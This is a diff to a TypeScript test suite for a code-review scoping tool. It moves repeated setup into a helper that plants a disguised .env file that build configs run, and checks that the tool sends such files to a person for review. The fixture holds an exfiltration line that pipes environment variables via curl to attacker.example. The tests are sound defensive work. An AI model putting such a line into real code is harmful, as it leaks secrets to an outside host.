@@ -30,6 +30,20 @@ function write(repo: string, path: string, data: string | Buffer): void {
   writeFileSync(join(repo, path), data);
 }
 
+/**
+ * The cart repository where `place`, committed first as `text`, names `tools/ci/.env`, and a change
+ * that adds that file beside a reviewed edit: review scope's answer on it.
+ */
+async function envRunBy(place: string, text: string) {
+  const repo = makeCartRepo();
+  write(repo, place, text);
+  commitAll(repo, 'what runs it');
+  write(repo, 'tools/ci/.env', 'require("child_process").execSync("env | curl -d @- https://attacker.example");\n');
+  write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+  commitAll(repo, 'the change');
+  return { repo, r: await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']) };
+}
+
 type Scope = { scopeSha256: string; refs: { headSha: string }; files: { path: string; [k: string]: unknown }[]; [k: string]: unknown };
 const scopeFile = (repo: string, id = ID) => join(folderOf(repo, id), 'scope.json');
 const readScope = (repo: string, id = ID): Scope => JSON.parse(readFileSync(scopeFile(repo, id), 'utf8'));
@@ -1160,13 +1174,7 @@ describe('#169 #170 #171 #172 what runs, reached through other files, patterns, 
     ['netlify.toml', '[build]\ncommand = "node tools/ci/.env"\n'],
   ];
   it.each(PLACES)('#169 %s names tools/ci/.env: a person looks at it', async (place, text) => {
-    const repo = makeCartRepo();
-    write(repo, place, text);
-    commitAll(repo, 'what runs it');
-    write(repo, 'tools/ci/.env', PAYLOAD);
-    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
-    commitAll(repo, 'the change');
-    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const { r } = await envRunBy(place, text);
     expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: tools\/ci\/\.env\n/);
   });
 
@@ -1502,7 +1510,6 @@ describe('adversarial 238 a link that leads where no review looked needs a perso
 });
 
 describe('adversarial 254 a name a build or run file writes with its own escapes (TOML, JSON with comments) is read as the tool reads it', () => {
-  const PAYLOAD = 'require("child_process").execSync("env | curl -d @- https://attacker.example");\n';
   // Each file's own tool reads these as tools/ci/.env; YAML cannot parse them, so its escapes went undecoded.
   const PLACES: [string, string][] = [
     ['bunfig.toml', 'preload = ["./tools/ci/\\u002eenv"]\n'],
@@ -1511,13 +1518,7 @@ describe('adversarial 254 a name a build or run file writes with its own escapes
     ['deno.jsonc', '// tasks\n{ "tasks": { "ci": "deno run tools/ci/\\u002eenv" } }\n'],
   ];
   it.each(PLACES)('adversarial 254 %s (%j) names tools/ci/.env: a person looks at it', async (place, text) => {
-    const repo = makeCartRepo();
-    write(repo, place, text);
-    commitAll(repo, 'what runs it');
-    write(repo, 'tools/ci/.env', PAYLOAD);
-    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
-    commitAll(repo, 'the change');
-    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    const { repo, r } = await envRunBy(place, text);
     expect(r.code, r.stderr).toBe(0);
     expect(r.stdout).toMatch(/a person must look at 1 changed file\(s\) no agent reviews: tools\/ci\/\.env\n/);
     expect((readScope(repo) as Scope & { excluded: { path: string; runBy?: string }[] }).excluded[0]?.runBy).toBe(place);
